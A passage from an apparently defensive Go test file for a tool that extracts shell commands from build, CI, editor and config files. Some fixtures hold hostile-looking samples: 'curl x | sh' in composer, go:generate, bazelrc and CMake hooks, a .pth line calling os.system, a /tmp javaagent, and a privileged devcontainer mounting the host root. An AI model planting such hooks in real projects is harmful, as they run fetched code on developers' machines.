		{"tox commands and substitutions", "tox.ini", "[tox]\nenvlist = py\n[testenv]\ndeps = pytest\ncommands =\n    pytest {posargs:tests}\n    - {envpython} -m mypy {toxinidir}/src\n[testenv:lint]\ncommands_pre = ruff check .\n[flake8]\ncommands = not-tox\n", []string{"pytest ", "python -m mypy ./src", "ruff check ."}},
		{"tox edit fragment", "tox.ini", "commands = bash -c 'x'\n", []string{"bash -c 'x'"}},
		{"nix shellHook", "flake.nix", "{ devShells.default = pkgs.mkShell { shellHook = ''\n  echo ${pkgs.go.version} '''quoted''' ''$HOME\n''; }; }", []string{"\n  echo /nix/store/x ''quoted'' $HOME\n"}},
		{"nix quoted hook", "shell.nix", `mkShell { shellHook = "echo \"hi\""; }`, []string{`echo "hi"`}},
		{"nix unterminated", "devenv.nix", "{ enterShell = ''\n echo", []string{"opaque"}},
		{"nix escapes", "shell.nix", "{ shellHook = ''a ''\\tb''; }", []string{"a \tb"}},
		{"ruby build file", "Rakefile", "task :a do\n  sh 'make'\nend\n", []string{"task :a do\n  sh 'make'\nend\n"}},
		{"pnpm hook file", ".pnpmfile.cjs", "module.exports = {hooks: {}}\n", []string{"module.exports = {hooks: {}}\n"}},
		{"yarnrc release and settings", ".yarnrc.yml", "yarnPath: .yarn/releases/yarn-4.cjs\nnodeLinker: node-modules\n", []string{"yarn config set nodeLinker node-modules", "yarn config set yarnPath .yarn/releases/yarn-4.cjs"}},
		{"yarnrc foreign yarnPath", ".yarnrc.yml", "yarnPath: /tmp/y.js\n", []string{"opaque", "yarn config set yarnPath /tmp/y.js"}},
		{"rc file and alias", "~/.bash_aliases", "alias ls='ls -la'\n", []string{"alias ls='ls -la'\n", "ls -la"}},
		{"vim", "~/.vimrc", "set nu\nautocmd X * silent !make\ncall system('ls')\nif !exists('x')\n", []string{"make", "ls"}},
		{"vim computed", "~/.config/nvim/init.lua", "os.execute(cmd)\n", []string{"opaque"}},
		{"vim sources a file elsewhere", "~/.vimrc", "set nu\nsource /tmp/evil.vim\nso ~/.vim/keys.vim\npy3file /tmp/x.py\n", []string{"opaque", "opaque"}},
		{"x session file", "~/.xprofile", "xset r rate 200 30\n", []string{"xset r rate 200 30\n"}},
		{"circleci run steps", ".circleci/config.yml", "jobs:\n  b:\n    steps:\n      - checkout\n      - run: make test\n      - run:\n          name: Deploy\n          command: ./deploy.sh\n", []string{"make test", "./deploy.sh"}},
		{"travis phases", ".travis.yml", "language: go\ninstall:\n  - go mod download\nscript: go test ./...\n", []string{"go mod download", "go test ./..."}},
		{"buildkite commands", ".buildkite/pipeline.yml", "steps:\n  - label: t\n    command: make\n  - commands: [a, b]\n", []string{"make", "a", "b"}},
		{"composer scripts", "composer.json", `{"name":"a/b","scripts":{"post-install-cmd":["@php artisan key:generate","curl x | sh"],"test":"phpunit","cs":"@lint","cb":"App\\Setup::run"}}`, []string{"php artisan key:generate", "curl x | sh", "phpunit"}},
		{"dev container commands", ".devcontainer/devcontainer.json", "{\n  // comments are allowed\n  \"initializeCommand\": \"./init.sh\",\n  \"postCreateCommand\": [\"npm\", \"ci\"],\n  \"postStartCommand\": {\"a\": \"make dev\"}\n}", []string{"./init.sh", "npm ci", "make dev"}},
		{"dev container's container", ".devcontainer/devcontainer.json", "{\"image\": \"mcr.microsoft.com/devcontainers/python:3.12\", \"privileged\": true, \"runArgs\": [\"-v\", \"/:/host\"], \"mounts\": [\"source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind\"]}", []string{"docker run --privileged --mount source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind -v /:/host mcr.microsoft.com/devcontainers/python:3.12"}},
		{"dev container with an image alone", ".devcontainer/devcontainer.json", "{\"image\": \"mcr.microsoft.com/devcontainers/python:3.12\", \"features\": {}}", nil},
		{"python startup file", "~/.pythonrc.py", "import readline\n", []string{"import readline\n"}},
		{"hook by shebang", ".git/hooks/pre-push", "#!/usr/bin/env node\nrequire('x')\n", []string{"#!/usr/bin/env node\nrequire('x')\n"}},
		{"hook in an unknown language", ".git/hooks/pre-push", "#!/usr/bin/env tclsh\nputs 1\n", []string{"opaque"}},
		{"vite config", "vite.config.ts", "import {execSync} from 'child_process'\nconst v = execSync('git rev-parse HEAD')\nexport default {}\n", []string{"import {execSync} from 'child_process'\nconst v = execSync('git rev-parse HEAD')\nexport default {}\n"}},
		{"gulpfile", "gulpfile.js", "exports.default = () => 1\n", []string{"exports.default = () => 1\n"}},
		{"deno tasks", "deno.json", `{"imports":{},"tasks":{"dev":"deno run -A main.ts","build":{"command":"deno compile main.ts","description":"builds","dependencies":["dev"]}}}`, []string{"deno compile main.ts", "deno run -A main.ts"}},
		{"deno tasks with comments", "deno.jsonc", "{\n // tasks\n \"tasks\": {\"t\": \"deno test\"}\n}", []string{"deno test"}},
		{"deno edit fragment", "deno.json", `"lint": "deno lint"`, []string{"deno lint"}},
		{"replit run and deployment", ".replit", "run = \"npm start\"\nonBoot = [\"sh\", \"-c\", \"make setup\"]\nentrypoint = \"index.js\"\n[deployment]\nbuild = \"npm run build\"\n", []string{"npm start", "sh -c 'make setup'", "npm run build"}},
		{"nx run-commands", "project.json", `{"targets":{"b":{"executor":"nx:run-commands","options":{"commands":["tsc -p .",{"command":"echo done"}]}}}}`, []string{"tsc -p .", "echo done"}},
		{"cargo build script", "build.rs", "use std::process::Command;\nfn main() {\n    let o = Command::new(\"git\")\n        .args(&[\"rev-parse\", \"HEAD\"]) // the commit\n        .current_dir(\"..\")\n        .output().unwrap();\n    std::process::Command::new(r\"protoc\").arg(\"--rust_out=src\").arg(\"a b.proto\").status().unwrap();\n}\n", []string{"git rev-parse HEAD", "protoc --rust_out=src 'a b.proto'"}},
		{"cargo build script, computed word", "build.rs", "fn main() { Command::new(\"sh\").arg(\"-c\").arg(cmd).status(); }", []string{"opaque"}},
		{"cargo build script, built across statements", "build.rs", "fn main() { let mut c = Command::new(\"sh\"); c.arg(\"-c\"); }", []string{"opaque"}},
		{"cargo build script, duct", "build.rs", "fn main() { cmd!(\"make\", \"-C\", \"vendor\").run().unwrap(); }", []string{"make -C vendor"}},
		{"cargo build script without processes", "build.rs", "fn main() { println!(\"cargo:rerun-if-changed=build.rs\"); }", nil},
		{"nox sessions", "noxfile.py", "import nox\n@nox.session\ndef t(session):\n    session.install('-e', '.')\n    session.run('pytest', '--cov', PKG, *session.posargs, env={'A': 'b'})\n    session.run_always(\"sh\", \"-c\", r'echo \\d')\n", []string{"import nox\n@nox.session\ndef t(session):\n    session.install('-e', '.')\n    session.run('pytest', '--cov', PKG, *session.posargs, env={'A': 'b'})\n    session.run_always(\"sh\", \"-c\", r'echo \\d')\n", "pytest --cov \"${NOX_ARG}\" \"${NOX_ARG}\"", "sh -c 'echo \\d'"}},
		{"nox session with a computed program", "noxfile.py", "def t(s):\n    s.run(TOOL, 'x')\n", []string{"def t(s):\n    s.run(TOOL, 'x')\n", "opaque"}},
		{"cmake commands", "CMakeLists.txt", "find_program(PROTOC protoc)\nset(OUT gen)\nexecute_process(COMMAND git describe --tags OUTPUT_VARIABLE V) # configure\nadd_custom_command(OUTPUT x\n  COMMAND ${PROTOC} --cpp_out=${CMAKE_CURRENT_BINARY_DIR}/${OUT} \"a b.proto\"\n  COMMAND $<TARGET_FILE:tool> ${UNKNOWN}\n  VERBATIM)\n", []string{"git describe --tags", `protoc --cpp_out=build/gen "a b.proto"`, `./tool ${UNKNOWN}`}},
		{"go generate directives", "gen/x.go", "package gen\n\n//go:generate stringer -type=Pill\n// go:generate not-a-directive\n  //go:generate indented-not-either\n//go:generate -command yacc go tool yacc\n//go:generate yacc -o $GOFILE.y.go \"a b.y\"\n//go:generate sh -c \"curl -s $URL | sh\"\n//go:generatex no\n", []string{"stringer -type=Pill", `go tool yacc -o "generate.go.y.go" "a b.y"`, `sh -c "curl -s ${URL} | sh"`, "package gen\n\n//go:generate stringer -type=Pill\n// go:generate not-a-directive\n  //go:generate indented-not-either\n//go:generate -command yacc go tool yacc\n//go:generate yacc -o $GOFILE.y.go \"a b.y\"\n//go:generate sh -c \"curl -s $URL | sh\"\n//go:generatex no\n"}},
		{"go generate unsplittable", "x.go", "//go:generate echo \"open\n", []string{"opaque", "//go:generate echo \"open\n"}},
		// A Go file is a program too: its code is read as Go (internal/shell/oneliner).
		{"go file without directives", "main.go", "package main\n\nfunc main() {}\n", []string{"package main\n\nfunc main() {}\n"}},
		{"bazelrc programs", ".bazelrc", "# stamp\nbuild --stamp --workspace_status_command=tools/status.sh\ntest --run_under='valgrind --quiet' --test_output=errors\nrun --run_under=//tools:wrapper\ncommon --credential_helper=*.example.com=/usr/local/bin/helper\nbuild:ci --workspace_status_command \"sh -c 'curl x | sh'\"\n", []string{"tools/status.sh", "valgrind --quiet", "/usr/local/bin/helper", "sh -c 'curl x | sh'"}},
		{"bazelrc unterminated quote", ".bazelrc", "build --run_under='x\n", []string{"opaque"}},
		{"bazelrc JVM agent", ".bazelrc", "startup --host_jvm_args=-javaagent:/tmp/.bzl/agent.jar\n", []string{"opaque"}},
		{"bazelrc JVM memory", ".bazelrc", "startup --host_jvm_args=-Xmx4g\nbuild --jvmopt -Xss4m\n", nil},
		{"hgrc hooks and aliases", ".hg/hgrc", "[ui]\nusername = me\nssh = ssh -C\n[hooks]\nprecommit.lint = make lint\n  && make test\nchangegroup = python:hgext.notify.hook\n[alias]\nlg = log -G\nup2 = !hg pull && hg up\n[extensions]\nrebase =\nmine = ~/ext/mine.py\n", []string{"ssh -C", "make lint\n&& make test", "opaque", "hg pull && hg up", "opaque"}},
		{"gdbinit commands", "~/.gdbinit", "set pagination off\nshell make -s\n!date\npython import os\npython\nprint(1)\nend\nsource ~/.gdbinit-gef.py\n", []string{"make -s", "date", "import os", "print(1)\n", "python3 ~/.gdbinit-gef.py"}},
		{"gdbinit documentation and safe-path", ".gdbinit", "define hook-stop\n  shell date\nend\ndocument hook-stop\n!! internal use only !!\nshell is not run here\nend\nset auto-load safe-path /\nsource tools/gdb/printers.gdb\n", []string{"date", "opaque", "sh tools/gdb/printers.gdb"}},
		{"lldbinit commands", ".lldbinit", "platform shell uname\nscript print(2)\ncommand script import ~/x.py\n", []string{"uname", "print(2)", "python3 ~/x.py"}},
		{"irbrc", "~/.irbrc", "IRB.conf[:SAVE_HISTORY] = 100\n", []string{"IRB.conf[:SAVE_HISTORY] = 100\n"}},
		{"renv profile", ".Rprofile", "# renv\nsource(\"renv/activate.R\")\noptions(repos = c(CRAN = \"https://cloud.r-project.org\"), width = 120)\n", nil},
		{"R profile commands", "~/.Rprofile", "if (interactive()) {\n  system('make -s')  # build\n  system2(cmd)\n  x <- 'system(\"no\")'\n}\nsource('/tmp/x.R')\n", []string{"make -s", "opaque", "opaque"}},
		{"R profile other code", ".Rprofile", "download.file('https://x.example/a.R', 'a.R')\nsystem('true')\n", []string{"opaque"}},
		{"R backtick names and guards", ".Rprofile", "if (file.exists(\"renv\")) {\n  source(\"renv/activate.R\")\n}\noptions(usethis.description = list(`Authors@R` = 'person(\"A\")'))\nsetHook(packageEvent(\"grDevices\", \"onLoad\"), function(...) NULL)\n", nil},
		{"julia startup", "~/.julia/config/startup.jl", "ENV[\"JULIA_EDITOR\"] = \"vim\"\nusing Revise\nrun(`make -s`)\natreplinit() do repl\nend\n", []string{"make -s"}},
		{"julia startup other code", "~/.julia/config/startup.jl", "include(\"/tmp/x.jl\")\n", []string{"opaque"}},
		{"pipfile scripts", "Pipfile", "[[source]]\nurl = \"https://pypi.org/simple\"\n[packages]\nrequests = \"*\"\n[scripts]\nlint = \"ruff check .\"\n", []string{"ruff check .", "pip install requests"}},
		{"pixi tasks", "pixi.toml", "[project]\nname = \"x\"\n[tasks]\nstart = \"python app.py\"\ntest = { cmd = \"pytest\", depends-on = [\"build\"] }\n[feature.lint.tasks]\nlint = \"ruff .\"\n", []string{"python app.py", "pytest", "ruff ."}},
		{"circleci parameters", ".circleci/config.yml", "jobs:\n  a:\n    steps:\n      - run: make << parameters.target >> && cat \\<<EOF > x\n", []string{"make ${CIRCLECI_PARAMETER} && cat <<EOF > x"}},
		{"azure macros", "azure-pipelines.yml", "steps:\n- script: cd $(Build.SourcesDirectory) && tox -e $(tox.env) && echo $(date)\n", []string{"cd ${AZURE_VARIABLE} && tox -e ${AZURE_VARIABLE} && echo $(date)"}},
		{"netlify commands", "netlify.toml", "[build]\ncommand = \"npm run build\"\npublish = \"dist\"\n[context.deploy-preview]\ncommand = \"make preview\"\n[dev]\ncommand = [\"vite\"]\n", []string{"npm run build", "make preview", "vite"}},
		{"vercel commands", "vercel.json", `{"buildCommand":"next build","outputDirectory":".next","installCommand":"pnpm i"}`, []string{"next build", "pnpm i"}},
		{"fly release command", "fly.toml", "app = \"x\"\n[deploy]\nrelease_command = \"bin/rails db:migrate\"\n[processes]\napp = \"bin/start\"\n", []string{"bin/rails db:migrate"}},
		{"heroku app.json", "app.json", `{"name":"x","scripts":{"postdeploy":"bin/seed"},"env":{"A":"b"}}`, []string{"bin/seed"}},
		{"expo app.json", "app.json", `{"expo":{"name":"x","slug":"x"}}`, nil},
		{"amplify commands", "amplify.yml", "version: 1\nfrontend:\n  phases:\n    build:\n      commands:\n        - npm ci\n        - npm run build\n", []string{"npm ci", "npm run build"}},
		{"cloud build steps", "cloudbuild.yaml", "steps:\n- name: gcr.io/cloud-builders/docker\n  args: [build, -t, x, .]\n- name: gcr.io/cloud-builders/gcloud\n  entrypoint: bash\n  args: [-c, 'gcloud run deploy x']\n- name: node\n  entrypoint: npm\n  args: [test]\n- name: ubuntu\n  script: echo hi\n", []string{"gcloud run deploy x", "npm test", "echo hi"}},
		{"appveyor scripts", "appveyor.yml", "install:\n  - cmd: npm ci\n  - ps: Install-Product node 20\nbuild_script: make\ntest_script:\n  - sh: make test\n", []string{"make", "npm 'ci'", "Install-Product node 20", "make test"}},
		{"appveyor on Ubuntu", "appveyor.yml", "image: Ubuntu2204\ninstall:\n  - npm ci\n", []string{"npm ci"}},
		{"appveyor on both", "appveyor.yml", "image:\n  - Visual Studio 2022\n  - Ubuntu\nbuild_script: make\n", []string{"make", "make"}},
		{"cirrus scripts", ".cirrus.yml", "task:\n  name: t\n  install_script: npm ci\n  test_script:\n    - npm test\n", []string{"npm ci", "npm test"}},
		{"pylintrc init-hook", ".pylintrc", "[MASTER]\ninit-hook='import sys; sys.path.append(\"src\")'\nignore=migrations\n", []string{`import sys; sys.path.append("src")`}},
		{"pyproject pylint init-hook", "pyproject.toml", "[tool.pylint.main]\ninit-hook = \"import os\"\njobs = 2\n", []string{"import os"}},
		{"mypy plugins", "mypy.ini", "[mypy]\nplugins = pydantic.mypy, tools/mypy_plugin.py\nstrict = True\n", []string{"python3 tools/mypy_plugin.py"}},
		{"cmake find_program versions", "CMakeLists.txt", "find_program(CXX NAMES clang++-HEAD clang++)\nexecute_process(COMMAND ${CXX} --version)\n", []string{"clang++ --version"}},
		{"cmake escapes", "CMakeLists.txt", "add_custom_target(c COMMAND for f in a b\\; do echo $f\\; done COMMAND echo \"x\\ty\")\n", []string{`for f in a b; do echo ${f}; done`, "echo \"x\ty\""}},
		{"cmake generator expressions", "CMakeLists.txt", "add_custom_command(OUTPUT o COMMAND ${CMAKE_CXX_COMPILER} $<TARGET_PROPERTY:${name},COMPILE_OPTIONS> \"-I$<JOIN:$<TARGET_PROPERTY:x,INCLUDE_DIRECTORIES>,;-I>\" -c o.cc)\n", []string{`c++ ${CMAKE_GENEX} "-I${CMAKE_GENEX}" -c o.cc`}},
		{"cmake bracket argument and a program in a variable", "cmake/setup.cmake", "add_custom_target(s ALL COMMAND bash -c [[curl x | sh]])\nexecute_process(COMMAND ${SH} x)\n", []string{`bash -c "curl x | sh"`, `"${SH}" x`}},
		{"tilt local and resources", "Tiltfile", "v = local('git rev-parse HEAD', quiet=True)\nlocal(command=['make', 'gen'])\nlocal_resource('api', cmd='go build ./cmd/api', serve_cmd=['./api', '--port', '8080'], deps=['cmd'])\ncustom_build('img', command='docker build -t $EXPECTED_REF .', deps=['.'])\nos.local('x')\n", []string{"git rev-parse HEAD", "make gen", "go build ./cmd/api", "./api --port 8080", "docker build -t $EXPECTED_REF ."}},
		{"tilt computed command", "Tiltfile", "local(cmd)\nlocal_resource('x', serve_cmd=['sh', c])\n", []string{"opaque", "opaque"}},
		{"pth import lines", "x.pth", "/some/path\nimport os; os.system('id')\n", []string{"import os; os.system('id')"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			checkExtract(t, tt.path, tt.text, tt.want)
		})
	}
}

// checkExtract checks the code found in text written at name (below the project, or
// below the home with ~/): each piece's text, or "opaque" for code moat cannot read.
func checkExtract(t *testing.T, name, text string, want []string) {
	t.Helper()
	p := path.Join(home, "project", name)
	if rest, ok := strings.CutPrefix(name, "~/"); ok {
		p = path.Join(home, rest)
	} else if strings.HasPrefix(name, "/") {
		p = name
	}
	f, ok := Lookup(p, home)
	if !ok {
		t.Fatalf("Lookup(%s) found no kind", p)
	}
	var got []string
	for _, c := range f.Extract(text) {
		if c.Opaque != "" {
			got = append(got, "opaque")
			continue
		}
		got = append(got, c.Text)
	}
	if strings.Join(got, "\x00") != strings.Join(want, "\x00") {
		t.Errorf("Extract(%.200q)\n got  %q\n want %q", text, got, want)
	}
}

func TestRunDir(t *testing.T) {
	for _, tt := range []struct{ path, want string }{
		{"/home/u/project/.git/hooks/pre-commit", "/home/u/project"},
		{"/home/u/project/.github/workflows/x.yml", "/home/u/project"},
		{"/home/u/project/sub/Makefile", "/home/u/project/sub"},
		{"/home/u/project/.devcontainer/devcontainer.json", "/home/u/project"},
		{"/home/u/.bashrc", "/home/u"},
	} {
		f, ok := Lookup(tt.path, home)
		if !ok {
			t.Fatalf("Lookup(%s) found no kind", tt.path)
		}
		if got := f.RunDir(tt.path, home); got != tt.want {
			t.Errorf("RunDir(%s) = %s, want %s", tt.path, got, tt.want)
		}
	}
}

// FuzzExtract feeds every kind arbitrary text: extraction never panics and returns code
// no larger than a bounded multiple of its input.
func FuzzExtract(f *testing.F) {
	f.Add("Makefile", "all:\n\t$(shell $(shell x))\n")
	f.Add("package.json", `{"scripts":{"a":"b"}}`)
	f.Add("x_test.go", "package x\n//go:generate a $GOFILE\nfunc TestMain(m *testing.M) { exec.Command(\"sh\", \"-c\", `x`).Run() }\n")
	f.Add("bin/setup", "#!/usr/bin/env -S ruby -w\n`curl #{Dir.home}`\n")
	f.Add("lib/X.pm", "=head1 N\n\neval below\n\n=cut\neval q{ use X };\n__END__\n")
	f.Add("Gemfile", "gem 'a', :git => \"x\", corp: 'y'\ngit_source(:corp)\nsource\ngit 'u' do\n")
	f.Add("composer.json", `{"repositories":{"a":{"type":"package","package":{"dist":{"url":1}}},"b":false}}`)
	f.Add("environment.yml", "channels: [a, 1]\ndependencies: [{pip: ['-r x', '', 2]}]\n")
	f.Add("pubspec.yaml", "dependencies: {a: {git: {url: u}, hosted: 1}}\n")
	f.Add("Cargo.toml", "[dependencies]\na = 1\nb = {package = 2, path = 'p'}\nc.version = 'x'\n[patch.x]\nd = {}\n")
	f.Add("x.gemspec", "s.add_dependency('a'); s.add_development_dependency \"b\", '1'\n")
	f.Add("go.mod", "replace (\n a => \n=> b\n)\nreplace x v1 => \"y\" v2\nreplace\t=>\n")
	f.Add(".cargo/config.toml", "[target.x]\nrunner = []\nrustflags = '-C'\n[source.a]\nreplace-with = ['b']\n[env]\nX.value = 1\n")
	f.Add("bunfig.toml", "[install.scopes.a]\nurl = 1\n[install]\nregistry = {}\n")
	f.Add("pip.conf", "[global]\n  indented\nkey\n=\n")
	f.Add("package-lock.json", `{"packages":{"node_modules/a":{"resolved":1},"b":{"resolved":"http:x"}},"dependencies":{"c":{"dependencies":{"d":{"resolved":"x"}}}}}`)
	f.Add("pnpm-lock.yaml", "  resolution: {tarball: https://x/y.tgz}\n  resolved \"http://\"\n")
	f.Add("Dockerfile", "# escape=`\nFROM a\nRUN x `\n#c\n y\nRUN <<\"E\"\nz\nADD http://u/ d/\nENV k v\nCMD [1]\nRUN --m")
	f.Add("pnpm-workspace.yaml", "catalogs: {a: {b: c}, d: 1}\ncatalog: x\n")
	f.Add(".github/workflows/x.yml", "jobs: {a: {steps: [{run: '${{ secrets.X }}'}]}}")
	f.Add("~/.vimrc", "!x\nsystem([[y]])")
	f.Add("pyproject.toml", "[tool.poe.tasks]\na = 'b'")
	f.Add("main.tf", "resource \"null_resource\" \"x\" {\n  provisioner \"local-exec\" {\n    command = <<-EOT\n    echo ${var.x}\n    EOT\n  }\n}\ndata \"external\" \"y\" {\n  program = [\"sh\", \"-c\", \"echo \\\"{}\\\"\"]\n}\n")
	f.Add("justfile", "a:\n    {{x}}\n`y`")
	f.Add("justfile", "set windows-shell := [\"C:\\\\x\\\\cmd.exe\"]\nv := '''a\n b\nc := \"\n[windows, private]\nw:\n    del {{v}}\n[windows]\nz:\n")
	f.Add("Jenkinsfile", "sh \"a ${b} $c \\$d\"\nsh '''e'''\nsh(script: \"\"\"f\"\"\")\nsh label: 'g', script: 'h'")
	f.Add(".claude/commands/x.md", "!`a` !`b")
	f.Add("compose.yaml", "services: {a: {image: x, privileged: true, volumes: ['/:/h', {type: bind, source: /, target: /h}], command: [a, b]}}")
	f.Add("k8s/p.yaml", "kind: Pod\nspec: {hostPID: true, volumes: [{name: r, hostPath: {path: /}}], containers: [{image: a, volumeMounts: [{name: r, mountPath: /h}]}]}\n---\nkind: CronJob\n")
	f.Add("flake.nix", "{ shellHook = ''a ''' ''$ ''\\n ${x}''; exec = \"b\\\"\"; }")
	f.Add("tox.ini", "[testenv]\ncommands =\n  pytest {posargs}\n  {envpython} x\n")
	f.Add("mise.toml", "[tasks.a]\nrun = ['x']\n[hooks]\nenter = 'y'\n")
	f.Add(".yarnrc.yml", "yarnPath: /x\nplugins: [{path: /y}, z]\nnpmScopes: {a: {npmRegistryServer: u}}\n")
	f.Add("Procfile", "web: a\n: b\nc d: e\n")
	f.Add("Cargo.toml", "[dependencies]\na = { git = 1 }\nb.git = \"u\"\n[target.x]\ndependencies = 2\n[patch]\nc = { registry-index = \"i\" }\n")
	f.Add("Pipfile", "[[source]]\nurl = 1\n[packages]\na = 2\nb = {git = 3}\n")
	f.Add("setup.cfg", "[options]\ninstall_requires = a\n\tb # c\nx\n[options.extras_require]\n=\n")
	f.Add("requirements.txt", "-e\n--index-url=\na @ b \\\n --hash=c # d\n-r\n")
	f.Add("pyproject.toml", "[project]\ndependencies = [1, \"a\"]\n[tool.uv.sources]\na = { git = 1, url = \"u\" }\n[[tool.poetry.source]]\nurl = \"v\"\n")
	f.Add("x.ipynb", `{"cells":[{"cell_type":"code","source":["%%script --bg x\n","!a {b}\n"]},{"cell_type":"code","source":3}]}`)
	f.Add("x.ipynb", "%%\n!!{}\ny = %sx z")
	f.Add("Taskfile.yml", "vars: {A: '{{.B}}', B: '{{.A}}', C: {value: 1}}\ntasks: {t: {dir: '{{.C}}', vars: {D: x}, cmds: ['{{.A}} {{.D}} {{exeExt}}']}}")
	f.Add("build.gradle", "commandLine 'a', \"b${c}\"\n['x'].execute()\n'y z'.execute()\nexecutable 'e'\nargs 'f'\napply from: 'https://u'\n/* c */ // d\n")
	f.Add("build.gradle.kts", "commandLine = listOf(\"a\", b)\nProcessBuilder(arrayOf(\"c\")).start()\nRuntime.getRuntime().exec(\"d e\")\n")
	f.Add("build.sbt", "\"a b\".!!\nProcess(Seq(\"c\")).!\n")
	f.Add("pom.xml", "<project><plugin><artifactId>exec-maven-plugin</artifactId><configuration><executable>${a}</executable><argument>b</argument></configuration></plugin><plugin><artifactId>maven-antrun-plugin</artifactId><exec executable=\"c\"><arg line=\"d\"/></exec><script>e</script></plugin>")
	f.Add("gradle.properties", "org.gradle.jvmargs=-javaagent:x.jar")
	f.Add("build.rs", "Command::new(\"a\").args(&[\"b\", r#\"c\"#]).env(\"K\", (1)).arg(\"d\\\"\").status(); cmd!(\"e\", f); Command::new(x)")
	f.Add("deno.jsonc", "{ /* c */ \"tasks\": {\"a\": \"b\", \"c\": {\"command\": \"d\"}}}")
	f.Add(".replit", "run = [\"a\", 1]\n[deployment]\nbuild = 'b'\n")
	f.Add(".bazelrc", "build --run_under=\\\n--workspace_status_command \"a\\\"b\" # c\n")
	f.Add("Makefile", "ifeq (a,b)\n\tV ?= $(foreach x,$(Y) z,$(foreach q,1,$(x)$(q)),)\nendif\nall:\n\t$(foreach ,a,b) $(error $(foreach x,,)) $(foreach x,a\n")
	f.Add(".vscode/launch.json", `{"configurations":[{"type":"node","runtimeExecutable":"${env:A-B}","program":"${x","args":["${file}$\\\"","${input:y}"],"linux":{"pipeTransport":{"pipeProgram":"p","pipeArgs":[1]}}}]}`)
	f.Add(".hg/hgrc", "[hooks]\nx =\n y\n[alias]\na = !\n")
	f.Add(".gitlab-ci.yml", "image: 1\na:\n  extends: [b, 2]\n  script: [[c, [d]], 3]\nb:\n  extends: a\n  image: {name: e}\n")
	f.Add(".github/workflows/x.yml", "jobs: {a: {runs-on: '${{ matrix.os }}', container: {options: -v=/:/h}, strategy: {matrix: {os: [1, '${{ x }}'], include: [{os: ubuntu-latest}, 2]}}, steps: [{run: y}]}}")
	f.Add(".circleci/config.yml", "executors: {e: {machine: true, resource_class: a/b}}\ncommands: {c: {steps: [{run: x}]}}\njobs: {j: {executor: {name: e}, steps: [{run: {command: y}}]}, k: 1}\n")
	f.Add("justfile", "a := if x == \"1\" { 'b' } else if y =~ 'z' { \"c\\n\" + d / e } else { f(g, \"h\") }\nd := '''i\n'''\nr p:\n    {{ a }} {{ quote(p) }} {{ join(a, 'x') }} {{ if p == '' { a } else { 'q' } }}\n")
	f.Add(".run/x.run.xml", "<configuration name=\"a\" type=\"ShConfigurationType\"><option name=\"SCRIPT_TEXT\" value=\"x &amp;&amp; y\"/><option name=\"SCRIPT_PATH\" value=\"$A$/$B\"/></configuration><configuration type=\"ShConfigurationType\"><option name=\"EXECUTE_SCRIPT_FILE\" value=\"false\"/>")
	f.Add("netlify.toml", "[dev]\ncommand = ['a', 1]\n[context.x]\ncommand = 'b'\n")
	f.Add("~/.gdbinit", "python\nx\n!\nshell\nplatform shell\n")
	f.Add(".Rprofile", "system('a\\\n#x\nf(\"")
	f.Add("~/.julia/config/startup.jl", "`x\\` run( `")
	f.Add("netlify.toml", "[build]\ncommand = [1, \"a\"]\n")
	f.Add("cloudbuild.yaml", "steps: [{entrypoint: sh, args: [-c]}, {script: 1}]\n")
	f.Add(".cirrus.yml", "a: {b_script: [x, {c: d}]}\n")
	f.Add("appveyor.yml", "install: [{ps: x}, {cmd: 1}]\n")
	f.Add("x.go", "//go:generate -command a \"b\\\"\" $X\n//go:generate a ${Y}$ \"\\x\"\n")
	f.Add("CMakeLists.txt", "set(A \"${A}${A}\")\nexecute_process(COMMAND ${A} [[x]] #[[c]] \"y\\\"\")\nadd_custom_command(COMMAND")
	f.Add("Tiltfile", "local(['a', \"b\"]) local_resource('n', cmd=x, serve_cmd='y') custom_build(command=[z]) local(")
	f.Add("noxfile.py", "s.run('a', b(c, [d]), *e, f=1)\nx.run_always(r\"g\\\"\", f'h')\ny.run(")
	f.Add("gradle/wrapper/gradle-wrapper.properties", "distributionUrl=https\\://x\\\n  /y\\u00\nk\\\n")
	f.Add(".mvn/wrapper/maven-wrapper.properties", "wrapperUrl : https://repo1.maven.org/maven2/io/takari/../x\n!c\n")
	f.Add("rust-toolchain.toml", "[toolchain]\npath = 1\n")
	f.Add("~/.config/nix/nix.conf", "extra-substituters = a b # c\nbuild-hook =\nrequire-sigs=false\n")
	f.Add("stack.yaml", "extra-deps: [{location: {git: 1}}, ../x, {url: u}]\nsetup-info: {a: {url: /x}}\npackage-indices: [1, {url: 2}]\n")
	f.Add("meson.build", "p = find_program('a')\nrun_command(p, ['b', ['c']], find_program('d'), check: true)\nrun_command('''x''')\n")
	f.Add("rebar.config", "{pre_hooks, [{\"a\", b, <<\"c\">>}, {d, 'e'}, [f|g]]}.\n{post_hooks, [{\"$\"}\n")
	f.Add("mix.exs", "\"cmd --cd a --app b c\" System.cmd(\"d\", [\"e\"]) :os.cmd(~c\"f\") Port.open({:spawn, \"g\"}) ?\" \"cmd #{h}\"")
	f.Add("Setup.hs", "import System.Process (system)\nmain = system $ \"a\" >> rawSystem \"b\" [\"c\\65\"] -- x\n{- y")
	f.Add("Package.swift", ".package(url: \"http://a\") .package(name: \"b\", path: \"../c\") Process() .buildCommand( /* system( */")
	f.Add("Earthfile", "a:\n  LOCALLY\n  RUN --secret\n  IF --privileged [ x ]\n  DO b+C\nIMPORT\nC:\n  COMMAND\n  RUN [\"d\"]\n")
	f.Add("BUILD", "genrule(name = r'a', cmd = '$$$(location //b:c) $< $@ $(CC) $(X' + \"\"\"d\"\"\")\ngenrule(")
	f.Fuzz(func(t *testing.T, name, text string) {
		p := path.Join(home, "project", name)
		if rest, ok := strings.CutPrefix(name, "~/"); ok {
			p = path.Join(home, rest)
		}
		fl, ok := Lookup(p, home)
		if !ok {
			return
		}
		total := 0
		for _, c := range fl.Extract(text) {
			total += len(c.Text)
		}
		if total > 64*len(text)+1024 {
			t.Errorf("%d bytes of code from %d bytes of text", total, len(text))
		}
	})
}

// TestRustBuildOrder reads a build script whose processes of both forms interleave: each
// is found once, in the order it is written (rustProcesses keeps the next of each form).
func TestRustBuildOrder(t *testing.T) {
	var body strings.Builder
	var want []string
	for i := range 50 {
		if i%3 == 0 {
			fmt.Fprintf(&body, "Command::new(\"c%d\").status();\n", i)
		} else {
			fmt.Fprintf(&body, "cmd!(\"m%d\").run();\n", i)
		}
		want = append(want, map[bool]string{true: "c", false: "m"}[i%3 == 0]+strconv.Itoa(i))
	}
	checkExtract(t, "build.rs", body.String(), want)
}

func TestPrograms(t *testing.T) {
